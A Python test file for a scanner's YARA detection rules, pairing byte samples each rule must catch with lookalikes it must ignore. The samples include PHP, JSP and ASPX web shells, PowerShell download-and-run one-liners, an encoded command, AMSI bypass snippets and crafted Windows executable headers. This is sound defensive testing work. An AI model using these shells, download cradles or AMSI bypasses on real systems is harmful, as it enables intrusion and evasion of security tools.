"""Every shipped YARA rule hits what it is for, and misses what only looks like it."""

from __future__ import annotations

import base64
import random
import struct
from pathlib import Path

import pytest

from scanner.inspection.yara.compilation import compile_rules
from scanner.inspection.yara.scanning import YaraScanner
from scanner.rulebook.yara_files import read_yara_files
from scanner.rulebook.yara_rules import YaraRules
from scanner.settings import YaraSettings
from tests.contents import Spooled, spooled

__all__ = ["spooled"]

CODE, WRITABLE, DATA = 0x60000020, 0xE0000020, 0xC0000040
NOISE = random.Random(1).randbytes(8192)
ZEROS = bytes(8192)
NOTEBOOK = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
EMBEDDED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(20)
ENCODED = base64.b64encode("Write-Host 'a greeting to everybody'".encode("utf-16-le")).decode()


def program(*sections: tuple[bytes, int], starts_in: int = 0) -> bytes:
    """A program for 32-bit Windows, as far as its headers go: the content and the rights of each section."""
    offset = 0x400
    table, body = b"", b""
    for number, (content, rights) in enumerate(sections):
        place = struct.pack("<IIII", len(content), 0x1000 + number * 0x10000, len(content), offset + len(body))
        table += f".s{number}".encode().ljust(8, b"\0") + place + bytes(12) + struct.pack("<I", rights)
        body += content
    start = 0x1000 + starts_in * 0x10000
    optional = struct.pack("<HBBIIIIII", 0x10B, 14, 0, len(body), 0, 0, start, 0x1000, 0x1000)
    optional += struct.pack(
        "<III6HIIIIHHIIIIII", 0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x100000, 0x400, 0, 2, 0, 0, 0, 0, 0, 0, 16
    )
    optional += bytes(128)
    header = (
        b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, len(optional), 0x0102) + optional + table
    )
    return (b"MZ" + bytes(58) + struct.pack("<I", 64) + header).ljust(offset, b"\0") + body


HITS: list[tuple[str, bytes]] = [
    ("php_runs_what_is_sent", b"<?php @eval($_POST['x']); ?>"),
    ("php_runs_what_is_sent", b"GIF89a<?php system ( $_GET[0] );"),
    ("php_runs_what_is_sent", b"<? eval(base64_decode($_REQUEST['a']));"),
    ("php_runs_what_is_sent", b"<?php $_GET['f']($_POST['x']);"),
    ("php_runs_what_is_sent", b"<?php array_map($_GET['f'], [1]);"),
    ("php_runs_what_is_sent", b"<?= `{$_GET['c']}` ?>"),
    ("php_unwraps_itself", b"<?php eval(gzinflate(base64_decode('S0ktLgEA')));"),
    ("jsp_runs_what_is_sent", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    ("jsp_runs_what_is_sent", b'<% new ProcessBuilder("sh", "-c", request.getParameter("c")).start(); %>'),
    ("jsp_runs_what_is_sent", b"<% l.defineClass(decode(request.getReader().readLine())).newInstance(); %>"),
    ("aspx_runs_what_is_sent", b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'),
    ("aspx_runs_what_is_sent", b'<%execute request("z")%>'),
    ("aspx_runs_what_is_sent", b'<% Process.Start("cmd.exe", "/c " + Request["c"]); %>'),
    ("runs_what_it_downloads", b"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')"),
    ("runs_what_it_downloads", "irm http://127.0.0.1/a | iex".encode("utf-16-le")),
    ("encoded_command", f"powershell.exe -NoP -Enc {ENCODED}".encode()),
    ("hidden_and_unbound", b"powershell -w hidden -ep bypass -c (New-Object Net.WebClient).DownloadFile('a','b')"),
    ("switches_amsi_off", b"[Ref].Assembly.GetType('x.AmsiUtils').GetField('amsiInitFailed').SetValue($null,$true)"),
    ("switches_amsi_off", b"GetProcAddress($m, 'AmsiScanBuffer'); VirtualProtect($a, 6, 0x40, [ref]$p)"),
    ("embeds_what_runs", NOTEBOOK + EMBEDDED + b"MZ" + bytes(64)),
    ("embeds_what_runs", NOTEBOOK + EMBEDDED + b"L\0\0\0\1\x14\2\0" + bytes(64)),
    ("embeds_what_runs", NOTEBOOK + EMBEDDED + b"\r\n<!DOCTYPE html><script>run()</script>"),
    ("embeds_what_runs", NOTEBOOK + EMBEDDED + b"\xef\xbb\xbf@echo off"),
    ("packed_and_rewrites_itself", program((NOISE, WRITABLE))),
    ("starts_outside_its_code", program((ZEROS, CODE), (ZEROS, DATA), starts_in=1)),
    ("starts_outside_its_code", program((ZEROS, CODE), starts_in=7)),
]
MISSES: list[bytes] = [
    b"<?php echo htmlspecialchars($_POST['x']); eval($template);",
    b"eval($_POST['x']) is how it is done",
    b"<?php $data = gzinflate(base64_decode($stored));",
    b'<% String name = request.getParameter("c"); out.print(name); %>',
    b'<%@ Page Language="C#" %><% Response.Write(Request["name"]); Process.Start("backup.exe"); %>',
    b"Invoke-WebRequest https://127.0.0.1/a -OutFile a.zip; Expand-Archive a.zip",
    b"cmdlets: iex invoke-expression irm invoke-restmethod iwr invoke-webrequest",
    b"powershell -ExecutionPolicy Bypass -File install.ps1",
    b"powershell -e short; powershell -EncodedCommand $variable",
    b"AmsiScanBuffer is called by VirtualProtect's neighbour",
    NOTEBOOK + EMBEDDED + b"%PDF-1.7 @echo off",
    NOTEBOOK + b"@echo off; the script is <script>",
    EMBEDDED + b"MZ" + bytes(64),
    program((NOISE, CODE), (ZEROS, DATA)),
    program((ZEROS, WRITABLE)),
    program((NOISE, DATA), (ZEROS, CODE), starts_in=1),
]


@pytest.fixture(scope="module")
def rules() -> YaraRules:
    return compile_rules(read_yara_files([Path(__file__).parents[2] / "rules"]), YaraSettings())


def names(rules: YaraRules, spooled: Spooled, data: bytes) -> list[str]:
    scanner = YaraScanner(rules, YaraSettings())
    try:
        found = scanner.scan(spooled(data))
    finally:
        scanner.close()
    assert isinstance(found, tuple)
    return [match.rule.name for match in found]


def test_all_files_are_in_force_and_draw_no_warning(rules: YaraRules) -> None:
    assert (rules.disabled, rules.warnings) == ((), ())


def test_every_rule_has_a_sample(rules: YaraRules) -> None:
    assert {name for name, _ in HITS} == {rule.name for rule in rules.rules}


@pytest.mark.parametrize(("name", "data"), HITS)
def test_a_sample_is_hit_by_its_rule_alone(rules: YaraRules, spooled: Spooled, name: str, data: bytes) -> None:
    assert names(rules, spooled, data) == [name]


@pytest.mark.parametrize("data", MISSES)
def test_what_only_looks_like_it_is_missed(rules: YaraRules, spooled: Spooled, data: bytes) -> None:
    assert names(rules, spooled, data) == []
